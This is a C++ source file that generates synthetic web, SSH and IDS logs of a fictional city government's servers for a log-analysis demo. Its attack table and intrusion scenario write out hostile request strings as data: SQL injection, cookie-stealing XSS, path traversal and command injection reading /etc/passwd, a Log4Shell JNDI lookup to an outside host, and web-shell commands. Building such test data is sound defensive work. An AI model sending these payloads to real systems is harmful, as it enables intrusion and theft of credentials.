#include "app/demo.h"

#include <array>
#include <cstdio>
#include <filesystem>
#include <fmt/format.h>
#include <iterator>
#include <memory>
#include <string_view>
#include <vector>

namespace tanggap::app {
namespace {

/// SplitMix64: small, and the same on every machine. Source: Steele, Lea, Flood, OOPSLA 2014.
class Dice {
public:
    explicit Dice(std::uint64_t seed) : state_(seed) {}

    std::uint64_t roll()
    {
        std::uint64_t z = (state_ += 0x9E3779B97F4A7C15ULL);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
        return z ^ (z >> 31);
    }
    /// 0..sides-1
    std::uint64_t roll(std::uint64_t sides) { return roll() % sides; }
    template <std::size_t N>
    std::string_view pick(const std::array<std::string_view, N>& choices)
    {
        return choices[roll(N)];
    }

private:
    std::uint64_t state_;
};

constexpr std::array<std::string_view, 12> kMonths{"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                   "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

constexpr std::array<std::string_view, 8> kAgents{
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "UptimeMonitor/2.1",
};

constexpr std::array<std::string_view, 10> kSections{"berita", "layanan", "pengumuman", "dokumen",
                                                     "agenda", "galeri",  "profil",     "ppid",
                                                     "izin",   "pajak"};

struct Attack {
    std::string_view method;
    std::string_view target;
    std::string_view agent;
    int status;
};

constexpr std::string_view kBrowser = kAgents[0];

constexpr std::array<Attack, 12> kAttacks{{
    {"GET", "/berita?id=7%27%20UNION%20SELECT%20user,password%20FROM%20admin--%20-", kBrowser, 200},
    {"GET", "/layanan?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", kBrowser, 200},
    {"GET", "/unduh?file=../../../../../../etc/passwd", kBrowser, 404},
    {"GET", "/index.php?id=1%20AND%20SLEEP(5)", "sqlmap/1.8.4#stable (https://sqlmap.org)", 200},
    {"GET", "/.git/config", "curl/8.5.0", 404},
    {"GET", "/.env", "python-requests/2.32.3", 404},
    {"GET", "/cgi-bin/status?x=;cat%20/etc/passwd", kBrowser, 404},
    {"GET", "/?x=${jndi:ldap://203.0.113.99/a}", kBrowser, 200},
    {"GET", "/wp-config.php.bak", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", 404},
    {"POST", "/wp-login.php", kBrowser, 200},
    {"GET", "/phpmyadmin/index.php", "Mozilla/5.0 zgrab/0.x", 404},
    {"GET", "/berita/..%252f..%252f..%252fetc/passwd", "gobuster/3.6", 400},
}};

struct Closer {
    void operator()(std::FILE* file) const { std::fclose(file); }
};

/// A file that remembers whether any write failed.
class LogFile {
public:
    static base::Result<LogFile> open(const std::string& path)
    {
        LogFile file;
        file.file_.reset(std::fopen(path.c_str(), "wbe"));
        if (!file.file_) {
            return base::system_error("cannot write " + path, errno);
        }
        file.path_ = path;
        return file;
    }

    void line(std::string_view text)
    {
        std::fwrite(text.data(), 1, text.size(), file_.get());
        std::fputc('\n', file_.get());
        ++lines_;
    }
    std::uint64_t lines() const { return lines_; }
    std::string site; ///< "www.kota.example:443 " before each access line; empty: not said

    base::Status finish()
    {
        const bool failed = std::fflush(file_.get()) != 0 || std::ferror(file_.get()) != 0;
        return failed ? base::Status(base::system_error("cannot write " + path_, errno))
                      : base::Status();
    }

private:
    std::unique_ptr<std::FILE, Closer> file_;
    std::string path_;
    std::uint64_t lines_ = 0;
};

class City {
public:
    City(const DemoOptions& options) : options_(options), dice_(options.seed) {}

    base::Result<DemoSummary> write_load();
    base::Result<DemoSummary> write_city();

private:
    std::string address();
    std::string target();
    void access(LogFile& log, base::Time time, std::string_view address, std::string_view method,
                std::string_view target, int status, std::string_view agent);
    void visitor(LogFile& log, base::Time time);
    void attack(LogFile& log, base::Time time, std::string_view address);
    void intrusion(LogFile& log, base::Time start);
    void sshd(LogFile& log, base::Time start, base::Time end);
    void ids(LogFile& log, base::Time start, base::Time end);
    void ids_alert(LogFile& log, base::Time time, std::string_view source, std::size_t kind);

    DemoOptions options_;
    Dice dice_;
    std::string line_;
    std::string last_attack_address_;
    std::uint64_t attacks_ = 0;
};

std::string City::address()
{
    const std::uint64_t n = dice_.roll();
    if (options_.kind == DemoOptions::Kind::Load) {
        // A fifth of the visits come from 4,000 busy addresses, the rest from 262,144.
        const std::uint64_t host = n % 5 == 0 ? (n >> 8) % 4000 : (n >> 8) % 262'144;
        return host % 16 == 0 ? fmt::format("2001:db8:{:x}::{:x}", host >> 16, host & 0xFFFF)
               : host < 131'072
                   ? fmt::format("198.{}.{}.{}", 18 + (host >> 16), (host >> 8) & 255, host & 255)
                   : fmt::format("100.{}.{}.{}", 64 + ((host >> 16) & 31), (host >> 8) & 255,
                                 host & 255);
    }
    // 192.0.2.0/24 is the city's own.
    static constexpr std::array<std::string_view, 2> kNetworks{"198.51.100", "203.0.113"};
    if (n % 4 == 0) {
        return fmt::format("2001:db8:{:x}::{:x}", (n >> 8) % 64, (n >> 16) % 4096);
    }
    return fmt::format("{}.{}", kNetworks[(n >> 8) % 2], 1 + (n >> 16) % 254);
}

std::string City::target()
{
    const std::uint64_t n = dice_.roll(64'000);
    const std::string_view section = kSections[n % kSections.size()];
    switch (n % 4) {
    case 0:
        return fmt::format("/{}/{}", section, n);
    case 1:
        return fmt::format("/{}?halaman={}", section, n);
    case 2:
        return fmt::format("/aset/gambar/{}-{}.webp", section, n);
    default:
        return fmt::format("/{}/{}/kecamatan-{}", section, n, n % 13);
    }
}

void City::access(LogFile& log, base::Time time, std::string_view address, std::string_view method,
                  std::string_view target, int status, std::string_view agent)
{
    const base::CivilTime c = base::civil_from_time(time + std::chrono::hours(7));
    line_.clear();
    fmt::format_to(
        std::back_inserter(line_),
        R"({}{} - - [{:02}/{}/{}:{:02}:{:02}:{:02} +0700] "{} {} HTTP/1.1" {} {} "-" "{}")",
        log.site, address, c.day, kMonths[static_cast<std::size_t>(c.month - 1)], c.year, c.hour,
        c.minute, c.second, method, target, status, status == 200 ? 2000 + dice_.roll(60'000) : 196,
        agent);
    log.line(line_);
}

void City::visitor(LogFile& log, base::Time time)
{
    const std::uint64_t n = dice_.roll(100);
    access(log, time, address(), n < 96 ? "GET" : "POST", target(),
           n < 93   ? 200
           : n < 97 ? 304
                    : 404,
           dice_.pick(kAgents));
}

void City::attack(LogFile& log, base::Time time, std::string_view address)
{
    const Attack& a = kAttacks[dice_.roll(kAttacks.size())];
    access(log, time, address, a.method, a.target, a.status, a.agent);
    last_attack_address_ = address;
    ++attacks_;
}

/// domain.md §4.3: scan, upload, web shell, hidden gambling pages.
void City::intrusion(LogFile& log, base::Time start)
{
    constexpr std::string_view kIntruder = "203.0.113.66";
    const auto at = [&](int minutes) { return start + std::chrono::minutes(minutes); };
    for (int i = 0; i < 40; ++i) {
        access(log, at(i / 4), kIntruder, "GET", fmt::format("/{}/readme.txt", i), 404,
               "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)");
    }
    for (int i = 0; i < 30; ++i) {
        access(log, at(12 + i / 10), kIntruder, "POST", "/wp-login.php", i == 29 ? 302 : 200,
               kBrowser);
    }
    access(log, at(16), kIntruder, "POST", "/wp-content/uploads/2026/kop-surat.php", 200, kBrowser);
    for (const std::string_view command : {"id", "uname%20-a", "cat%20/etc/passwd"}) {
        access(log, at(18), kIntruder, "GET",
               fmt::format("/wp-content/uploads/2026/kop-surat.php?cmd={}", command), 200,
               kBrowser);
    }
    for (int i = 0; i < 12; ++i) {
        access(log, at(60 + i), "198.51.100.20", "GET", fmt::format("/slot-gacor/maxwin-{}", i),
               200, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
    }
    attacks_ += 40 + 30 + 1 + 3 + 12;
}

void City::sshd(LogFile& log, base::Time start, base::Time end)
{
    static constexpr std::array<std::string_view, 6> kNames{"root", "admin",  "oracle",
                                                            "test", "ubuntu", "git"};
    const auto line = [&](base::Time time, std::string_view text) {
        const base::CivilTime c = base::civil_from_time(time + std::chrono::hours(7));
        log.line(fmt::format("{} {:>2} {:02}:{:02}:{:02} web-dinkes sshd[{}]: {}",
                             kMonths[static_cast<std::size_t>(c.month - 1)], c.day, c.hour,
                             c.minute, c.second, 2000 + dice_.roll(60'000), text));
    };
    const std::int64_t hours = (end - start) / std::chrono::hours(1);
    for (std::int64_t hour = 0; hour < hours; ++hour) {
        const base::Time time = start + std::chrono::hours(hour);
        if (hour % 24 == 2) {
            line(time, "Accepted publickey for operator from 192.0.2.10 port 50122 ssh2: ED25519 "
                       "SHA256:0000000000000000000000000000000000000000000");
        }
        const std::string scanner = fmt::format("203.0.113.{}", 100 + dice_.roll(40));
        for (std::uint64_t i = 0, tries = dice_.roll(6); i < tries; ++i, ++attacks_) {
            line(time + std::chrono::seconds(600 + 4 * i),
                 fmt::format("Failed password for {} from {} port {} ssh2", dice_.pick(kNames),
                             scanner, 40'000 + dice_.roll(20'000)));
        }
        if (hour == hours - 40) {
            for (int i = 0; i < 60; ++i, ++attacks_) {
                line(time + std::chrono::seconds(1200 + 2 * i),
                     fmt::format("Failed password for operator from 203.0.113.66 port {} ssh2",
                                 41'000 + i));
            }
            line(time + std::chrono::seconds(1330),
                 "Accepted password for operator from 203.0.113.66 port 41099 ssh2");
            ++attacks_;
        }
    }
}

void City::ids_alert(LogFile& log, base::Time time, std::string_view source, std::size_t kind)
{
    struct Kind {
        std::string_view signature;
        std::string_view category;
        int severity;
        std::string_view action;
    };
    static constexpr std::array<Kind, 4> kKinds{{
        {"KOTA pemindaian port dari luar", "Detection of a Network Scan", 3, "allowed"},
        {"KOTA percobaan pada aplikasi web", "Web Application Attack", 1, "blocked"},
        {"KOTA nama dan sandi bawaan pabrik", "Attempt to login by a default username and password",
         2, "blocked"},
        {"KOTA perintah dari luar dijawab server", "Successful Administrator Privilege Gain", 1,
         "allowed"},
    }};
    const Kind& k = kKinds[kind];
    log.line(fmt::format(
        R"({{"timestamp":"{}","flow_id":{},"in_iface":"eth0","event_type":"alert","src_ip":"{}",)"
        R"("src_port":{},"dest_ip":"192.0.2.{}","dest_port":443,"proto":"TCP","alert":{{)"
        R"("action":"{}","gid":1,"signature_id":{},"rev":1,"signature":"{}","category":"{}",)"
        R"("severity":{}}},"host":"fw-1"}})",
        base::format_rfc3339(time), 1'000'000 + dice_.roll(9'000'000), source,
        1024 + dice_.roll(60'000), kind == 3 ? 30 : 20 + dice_.roll(2) * 10, k.action,
        9'000'001 + kind, k.signature, k.category, k.severity));
    ++attacks_;
}

/// A quiet sensor, a few cut-off lines as a full disk leaves them, and the intruder.
void City::ids(LogFile& log, base::Time start, base::Time end)
{
    const std::int64_t hours = (end - start) / std::chrono::hours(1);
    for (std::int64_t hour = 0; hour < hours; ++hour) {
        const base::Time time = start + std::chrono::hours(hour);
        for (std::uint64_t i = 0, seen = dice_.roll(3); i < seen; ++i) {
            ids_alert(log, time + std::chrono::seconds(i * 700),
                      fmt::format("198.51.100.{}", 1 + dice_.roll(200)), dice_.roll(3));
        }
        if (hour % 97 == 96) {
            log.line(R"({"timestamp":"2026-)");
        }
        if (hour == hours - 37) {
            ids_alert(log, time, "203.0.113.66", 3);
        }
    }
}

base::Result<DemoSummary> City::write_load()
{
    TRY(LogFile log, LogFile::open(options_.folder + "/access.log"));
    const base::Time start = options_.end - std::chrono::hours(24 * 30);
    const std::int64_t span = (options_.end - start).count();
    for (std::uint64_t i = 0; i < options_.access_lines; ++i) {
        const auto offset =
            static_cast<std::int64_t>(static_cast<double>(span) * static_cast<double>(i) /
                                      static_cast<double>(options_.access_lines));
        const base::Time time{start.ns + offset};
        const bool last = i + 1 == options_.access_lines;
        if (last || dice_.roll(200) == 0) {
            attack(log, time, address());
        } else {
            visitor(log, time);
        }
    }
    TRY_STATUS(log.finish());
    return DemoSummary{log.lines(), attacks_, last_attack_address_};
}

base::Result<DemoSummary> City::write_city()
{
    TRY(LogFile web, LogFile::open(options_.folder + "/www-access.log"));
    TRY(LogFile health, LogFile::open(options_.folder + "/dinkes-access.log"));
    TRY(LogFile auth, LogFile::open(options_.folder + "/dinkes-auth.log"));
    TRY(LogFile eve, LogFile::open(options_.folder + "/ids-eve.json"));
    web.site = "www.kota.example:443 ";
    health.site = "dinkes.kota.example:443 ";
    const base::Time start = options_.end - std::chrono::hours(24 * 30);
    const base::Time break_in = options_.end - std::chrono::hours(38);
    bool intruded = false;
    for (std::uint64_t i = 0; i < options_.access_lines; ++i) {
        const base::Time time{start.ns + static_cast<std::int64_t>(
                                             static_cast<double>((options_.end - start).count()) *
                                             static_cast<double>(i) /
                                             static_cast<double>(options_.access_lines))};
        LogFile& log = i % 3 == 0 ? health : web;
        if (!intruded && time >= break_in) {
            intrusion(health, time);
            intruded = true;
        }
        if (dice_.roll(200) == 0) {
            attack(log, time, fmt::format("198.51.100.{}", 1 + dice_.roll(200)));
        } else {
            visitor(log, time);
        }
    }
    sshd(auth, start, options_.end);
    ids(eve, start, options_.end);
    TRY_STATUS(web.finish());
    TRY_STATUS(health.finish());
    TRY_STATUS(auth.finish());
    TRY_STATUS(eve.finish());
    return DemoSummary{web.lines() + health.lines() + auth.lines() + eve.lines(), attacks_,
                       last_attack_address_};
}

} // namespace

base::Result<DemoSummary> generate_demo(const DemoOptions& options)
{
    std::error_code error;
    std::filesystem::create_directories(options.folder, error);
    if (error) {
        return base::system_error("cannot make " + options.folder, error.value());
    }
    City city(options);
    return options.kind == DemoOptions::Kind::Load ? city.write_load() : city.write_city();
}

} // namespace tanggap::app
